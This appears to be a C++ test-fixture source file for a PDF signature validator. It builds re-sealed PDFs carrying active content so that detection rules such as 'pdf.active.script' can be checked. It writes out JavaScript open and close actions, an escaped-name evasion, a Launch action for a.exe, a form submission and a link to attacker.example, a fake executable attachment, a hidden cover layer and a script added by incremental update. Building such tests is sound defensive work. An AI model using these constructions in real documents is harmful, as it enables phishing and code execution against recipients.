// SPDX-License-Identifier: Apache-2.0
// Sealed files that do something: no certificate needs to. Sealed with our own key, and as updates.
#include "support/attacks/attack.hpp"

#include <fmt/format.h>

namespace yinxin::attacks {
namespace {

std::string sealed(FreshCopy& copy, const Bodies& bodies) {
    return seal(put_together(bodies, copy.parts().trailer()), copy.signed_by_us());
}

std::string with_catalog_entry(FreshCopy& copy, std::string_view entry) {
    Bodies bodies = copy.parts().bodies();
    std::string& catalog = bodies[copy.parts().catalog()];
    catalog = with_entry(catalog, entry);
    return sealed(copy, bodies);
}

std::string with_page_entry(FreshCopy& copy, std::string_view entry) {
    Bodies bodies = copy.parts().bodies();
    std::string& page = bodies[copy.parts().page()];
    page = with_entry(page, entry);
    return sealed(copy, bodies);
}

/// One more annotation, with this action.
std::string with_annotation(FreshCopy& copy, std::string_view entries) {
    const PdfParts& parts = copy.parts();
    Bodies bodies = parts.bodies();
    const std::string widget = reference(parts.widget());
    bodies[parts.size()] = fmt::format("<</Type/Annot/Rect[60 420 530 620]/F 4{}>>", entries);
    bodies[parts.page()] = replaced(bodies[parts.page()],
                                    "/Annots[" + widget,
                                    "/Annots[" + widget + " " + reference(parts.size()));
    return sealed(copy, bodies);
}

std::string with_attachment(FreshCopy& copy) {
    const PdfParts& parts = copy.parts();
    Bodies bodies = parts.bodies();
    const int file = parts.size();
    bodies[file] = stream("/Type/EmbeddedFile", "MZ this program cannot be run");
    bodies[file + 1] = fmt::format("<</Type/Filespec/F(a.exe)/EF<</F {}>>>>", reference(file));
    std::string& catalog = bodies[parts.catalog()];
    catalog = with_entry(
        catalog,
        fmt::format("/Names<</EmbeddedFiles<</Names[(a.exe) {}]>>>>", reference(file + 1)));
    return sealed(copy, bodies);
}

/// A layer that covers the page's words and is off when printed.
std::string with_layer(FreshCopy& copy) {
    const PdfParts& parts = copy.parts();
    Bodies bodies = parts.bodies();
    const int layer = parts.size();
    const std::string named = reference(layer);
    bodies[layer] = "<</Type/OCG/Name(cover)>>";
    bodies[layer + 1] = stream("", "/OC /L BDC q 0.9 0.9 0.9 rg 60 420 470 200 re f Q EMC");
    bodies[parts.page()] = replaced(page_with_content(parts, layer + 1),
                                    "/Resources<<",
                                    "/Resources<</Properties<</L " + named + ">>");
    std::string& catalog = bodies[parts.catalog()];
    catalog = with_entry(catalog, fmt::format("/OCProperties<</OCGs[{0}]/D<</ON[{0}]>>>>", named));
    return sealed(copy, bodies);
}

std::string with_script_update(const PdfParts& parts) {
    return PdfUpdate(parts)
        .put(parts.catalog(),
             with_entry(parts.body(parts.catalog()),
                        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"))
        .write();
}

}  // namespace

Attacks active_content(FreshCopy& copy) {
    const std::string script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
    return {
        hostile("script_on_opening",
                with_catalog_entry(copy, "/OpenAction" + script),
                "pdf.active.script"),
        hostile("script_by_name",
                with_catalog_entry(copy, "/Names<</JavaScript<</Names[(a) " + script + "]>>>>"),
                "pdf.active.script"),
        hostile("script_with_escaped_name",
                with_catalog_entry(copy, "/OpenAction<</S/Java#53cript/JS(app.alert\\(1\\))>>"),
                "pdf.active.script"),
        hostile("script_on_closing",
                with_catalog_entry(copy, "/AA<</WC" + script + ">>"),
                "pdf.active.script"),
        hostile("script_on_the_page",
                with_page_entry(copy, "/AA<</O" + script + ">>"),
                "pdf.active.script"),
        hostile("launch",
                with_catalog_entry(copy, "/OpenAction<</S/Launch/F(a.exe)>>"),
                "pdf.active.launch"),
        hostile(
            "submit",
            with_annotation(copy, "/Subtype/Link/A<</S/SubmitForm/F(http://attacker.example/)>>"),
            "pdf.active.submit"),
        hostile("import",
                with_annotation(copy, "/Subtype/Link/A<</S/ImportData/F(a.fdf)>>"),
                "pdf.active.import"),
        hostile("other_file",
                with_catalog_entry(copy, "/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>"),
                "pdf.active.other_file"),
        hostile("rich_media",
                with_annotation(copy, "/Subtype/RichMedia/RichMediaContent<<>>"),
                "pdf.active.media"),
        hostile("movie",
                with_annotation(copy, "/Subtype/Movie/Movie<</F(a.avi)>>"),
                "pdf.active.media"),
        hostile("dynamic_form",
                with_catalog_entry(copy, "/NeedsRendering true"),
                "pdf.active.dynamic_form"),
        fooling(hostile("script_by_update", with_script_update(copy.parts()), "pdf.active.script")),
    };
}

Attacks waiting_content(FreshCopy& copy) {
    const std::string link = "/Subtype/Link/A<</S/URI/URI(http://attacker.example/)>>";
    const std::string attachment = "/Subtype/FileAttachment/FS<</F(a)>>";
    return {
        lawful("link", with_annotation(copy, link), "pdf.active.link"),
        lawful("attachment", with_attachment(copy), "pdf.active.embedded_file"),
        lawful("attachment_on_the_page",
               with_annotation(copy, attachment),
               "pdf.active.embedded_file"),
        lawful("layer", with_layer(copy), "pdf.active.layers"),
    };
}

}  // namespace yinxin::attacks
